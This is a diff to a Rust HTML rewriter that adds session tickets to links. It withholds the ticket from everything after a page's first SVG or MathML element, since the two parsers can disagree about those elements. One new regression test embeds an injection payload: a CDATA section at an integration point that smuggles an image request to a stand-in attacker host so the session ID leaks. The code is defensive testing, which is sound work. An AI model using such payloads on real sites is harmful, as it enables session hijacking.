@@ -42,12 +42,14 @@
 //!     can after the browser has left (`<svg/>`, a closed parent); what it
 //!     reads as a link the browser reads as text, to be reassembled into
 //!     a request elsewhere;
-//!   - once the page has had an `<svg>` or `<math>`, nothing after its next
-//!     text-only element gets the ticket, to the end of the page: where
-//!     lol_html reads that element as SVG markup and the browser as HTML
-//!     text, the two end it at different places (a `</style>` hidden in a
-//!     comment, a CDATA section or an attribute), and what follows is not
-//!     the same document to both.
+//!   - from a page's first `<svg>` or `<math>` on, nothing gets the
+//!     ticket, to the end of the page: inside and after foreign content the
+//!     two parsers can end a text-only element at different places (a
+//!     `</style>` hidden in a comment, a CDATA section or an attribute), or
+//!     read a CDATA section at an integration point (`foreignObject`,
+//!     `mi`, `annotation-xml`) differently, and what follows is not the
+//!     same document to both. Outside reviews leaked the ticket through
+//!     each narrower rule tried first.
 //!
 //! Scripts, styles and comments are not HTML elements to lol_html, so
 //! links inside them are never touched; what a page's own scripts do with
@@ -98,13 +100,11 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
     // open around the current element: no ticket is given inside one.
     let ambiguous = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
     let open = ambiguous.clone();
-    // An <svg> or <math> has begun, and then a text-only element: the rest
-    // of the page gets no ticket.
-    let foreign_seen = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    // An <svg> or <math> has begun: the rest of the page gets no ticket.
     let diverged = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
-    let (seen, diverging) = (foreign_seen.clone(), diverged.clone());
+    let diverging = diverged.clone();
     let foreign = move |_: &mut Element<'_, '_>| -> HandlerResult {
-        seen.store(true, std::sync::atomic::Ordering::Relaxed);
+        diverging.store(true, std::sync::atomic::Ordering::Relaxed);
         Ok(())
     };
     let text_only = move |el: &mut Element<'_, '_>| -> HandlerResult {
@@ -115,9 +115,6 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
         if matches!(tag.as_str(), "noscript" | "mglyph" | "malignmark") {
             el.remove();
             return Ok(());
-        }
-        if foreign_seen.load(std::sync::atomic::Ordering::Relaxed) {
-            diverging.store(true, std::sync::atomic::Ordering::Relaxed);
         }
         if el.can_have_content() {
             open.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
@@ -394,16 +391,16 @@ mod tests {
     }
 
     #[test]
-    fn svg_and_mathml_keep_links_until_a_text_only_element_follows_them() {
-        let out = all_ways(
-            "<a href=\"/before\">b</a><svg><a href=\"/in-svg\"><text>t</text></a></svg>\
-             <math><mi>x</mi></math><a href=\"/after\">a</a>\
-             <style>p{}</style><a href=\"/after-style\">s</a>",
-        );
-        assert!(out.contains("/before?SID=abc"), "{out}");
-        assert!(out.contains("/in-svg?SID=abc"), "{out}");
-        assert!(out.contains("/after?SID=abc"), "{out}");
-        assert!(!out.contains("/after-style?SID"), "{out}");
+    fn links_before_the_first_svg_or_math_keep_the_ticket_and_none_after() {
+        for foreign in ["<svg>", "<SVG>", "<math>"] {
+            let out = all_ways(&format!(
+                "<a href=\"/before\">b</a>{foreign}<a href=\"/inside\"><text>t</text></a></svg></math>\
+                 <a href=\"/after\">a</a>"
+            ));
+            assert!(out.contains("/before?SID=abc"), "{out}");
+            assert!(!out.contains("/inside?SID"), "{out}");
+            assert!(!out.contains("/after?SID"), "{out}");
+        }
         // Without any SVG or MathML, text-only elements cost nothing.
         let out =
             all_ways("<style>p{}</style><title>t</title><script>1</script><a href=\"/x\">x</a>");
@@ -414,6 +411,23 @@ mod tests {
     /// tag, later than the browser's: a `</style>` the browser honours is
     /// hidden from lol_html in a comment, CDATA or an attribute (an outside
     /// review leaked the ticket this way through each).
+    /// A CDATA section at an integration point is one to the browser (its
+    /// element is still SVG or MathML) and a bogus comment to lol_html.
+    #[test]
+    fn cdata_at_an_integration_point_gets_no_ticket_through() {
+        for opening in [
+            "<svg><foreignObject>",
+            "<svg><desc>",
+            "<math><mi>",
+            "<math><mtext>",
+            "<math><annotation-xml encoding=\"text/html\">",
+        ] {
+            let page = format!("{opening}<![CDATA[><b title=\"]]><img src='http://evil.example/?\"><a href=\"/x\">'>");
+            let out = all_ways(&page);
+            assert!(!out.contains("SID=abc"), "{page}: {out}");
+        }
+    }
+
     #[test]
     fn after_svg_a_text_only_element_ends_the_tickets_for_the_page() {
         for close in ["style", "title", "textarea", "xmp", "noembed", "script"] {
